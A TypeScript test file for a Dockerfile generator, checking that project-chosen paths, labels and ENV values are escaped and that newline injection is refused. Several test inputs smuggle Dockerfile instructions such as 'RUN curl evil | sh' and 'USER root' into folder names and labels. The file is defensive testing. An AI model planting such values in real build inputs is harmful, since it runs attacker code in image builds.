// Strings the project decides (folder names, paths, commands, labels) must reach Docker as exactly those strings.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DockerfileParser } from 'dockerfile-ast';
import {
    copyInstruction,
    envInstruction,
    execForm,
    labelInstruction,
    workdirInstruction,
} from '../../../../src/core/plan/dockerfileText';
import type { Plan } from '../../../../src/core/plan/Plan';
import { planFromSnapshot } from '../../../../src/core/plan/planFromSnapshot';
import { RecipeTextError } from '../../../../src/core/plan/RecipeTextError';
import { renderRecipe } from '../../../../src/core/plan/renderRecipe';
import { fixtureDir, snapshotFor } from './snapshotFor';

async function workspacesPlan(): Promise<Plan> {
    return planFromSnapshot(
        await snapshotFor(fixtureDir('node-yarn-berry-workspaces'), { installed: { node: '20.18.1' } }),
        { projectRoot: '/home/dev/project' },
    );
}

/** The plan with the app in `dir`: its manifest copied there, its folder the working directory. */
function withAppIn(plan: Plan, dir: string): Plan {
    const manager = plan.packageManager;
    assert.ok(manager);
    return {
        ...plan,
        appRoot: dir,
        packageManager: { ...manager, manifests: ['package.json', `${dir}/package.json`] },
    };
}

describe('Dockerfile text from the project', () => {
    it('a folder with a space is copied with the JSON form, which keeps it one path', () => {
        assert.equal(copyInstruction(['my app/package.json'], 'my app/'), 'COPY ["my app/package.json", "my app/"]');
        assert.equal(copyInstruction(['package.json', '.yarnrc.yml*'], './'), 'COPY package.json .yarnrc.yml* ./');
    });

    it('COPY paths and WORKDIR escape what Docker substitutes or unquotes: $, quotes, backslashes', () => {
        assert.equal(
            copyInstruction([`it's $HOME "x"\\y/package.json`], './'),
            String.raw`COPY ["it\\'s \\$HOME \\\"x\\\"\\\\y/package.json", "./"]`,
        );
        assert.equal(workdirInstruction('/app/my $app'), 'WORKDIR "/app/my \\$app"');
        assert.equal(
            copyInstruction(['a <<EOF/package.json'], './'),
            String.raw`COPY ["a \\<\\<EOF/package.json", "./"]`,
        );
        assert.equal(workdirInstruction('/app/apps/api'), 'WORKDIR /app/apps/api');
    });

    it('refuses a path with a line break or a glob character, naming it', () => {
        assert.throws(
            () => copyInstruction(['a\nRUN curl evil | sh\n/package.json'], './'),
            (error: unknown) =>
                error instanceof RecipeTextError &&
                /line break/.test(error.message) &&
                error.message.includes('"a\\nRUN curl evil | sh\\n/package.json"'),
        );
        assert.throws(() => copyInstruction(['a\r/package.json'], './'), RecipeTextError);
        assert.throws(
            () => copyInstruction(['pkgs/[api]/package.json'], 'pkgs/[api]/'),
            /COPY would read \*, \? or \[ as a pattern/,
        );
        assert.throws(() => workdirInstruction('/app/x\nUSER root'), RecipeTextError);
    });

    it('LABEL values are literal: $ escaped; ENV keeps $NAME references and escapes any other $', () => {
        assert.deepEqual(labelInstruction({ 'org.opencontainers.image.title': 'costs $5 "now" \\o/' }), [
            'LABEL org.opencontainers.image.title="costs \\$5 \\"now\\" \\\\o/"',
        ]);
        assert.throws(() => labelInstruction({ title: 'x\nRUN id' }), RecipeTextError);
        assert.throws(() => labelInstruction({ 'a b': 'x' }), RecipeTextError);
        assert.equal(envInstruction('PATH', '/opt/venv/bin:$PATH'), 'ENV PATH=/opt/venv/bin:$PATH');
        assert.equal(envInstruction('GREETING', 'costs $5 ${X:-y}'), 'ENV GREETING="costs \\$5 \\${X:-y}"');
        assert.throws(() => envInstruction('A', 'x\nRUN id'), RecipeTextError);
        assert.throws(() => envInstruction('A B', 'x'), RecipeTextError);
    });

    it('exec form escapes line and paragraph separators JSON leaves raw', () => {
        assert.equal(execForm(['node', 'a\u2028b', 'c\nd']), '["node", "a\\u2028b", "c\\nd"]');
    });

    it('a workspace app in a folder with a space and a $: the Dockerfile has the same instructions, the paths intact', async () => {
        const plan = await workspacesPlan();
        const dockerfile = renderRecipe(withAppIn(plan, 'apps/my $app'), { buildkit: true }).dockerfile;
        const plain = renderRecipe(withAppIn(plan, 'apps/myapp'), { buildkit: true }).dockerfile;
        const keywords = (text: string): string[] =>
            DockerfileParser.parse(text)
                .getInstructions()
                .map((instruction) => instruction.getKeyword());
        assert.deepEqual(keywords(dockerfile), keywords(plain));
        assert.match(dockerfile, /^COPY \["apps\/my \\\\\$app\/package\.json", "apps\/my \\\\\$app\/"\]$/m);
        assert.match(dockerfile, /^WORKDIR "\/app\/apps\/my \\\$app"$/m);
    });

    it('a project folder named with $ and quotes becomes a literal title label', async () => {
        const plan = await workspacesPlan();
        const dockerfile = renderRecipe(
            { ...plan, labels: { ...plan.labels, 'org.opencontainers.image.title': 'my "$HOME" app' } },
            { buildkit: true },
        ).dockerfile;
        assert.match(dockerfile, /org\.opencontainers\.image\.title="my \\"\\\$HOME\\" app"/);
    });

    it('refuses to render an app folder with a line break rather than write a line the project chose', async () => {
        const plan = await workspacesPlan();
        assert.throws(
            () => renderRecipe(withAppIn(plan, 'apps/x\nRUN curl evil | sh'), { buildkit: true }),
            RecipeTextError,
        );
        assert.throws(
            () => renderRecipe({ ...plan, labels: { title: 'x\nRUN id' } }, { buildkit: false }),
            RecipeTextError,
        );
    });
});
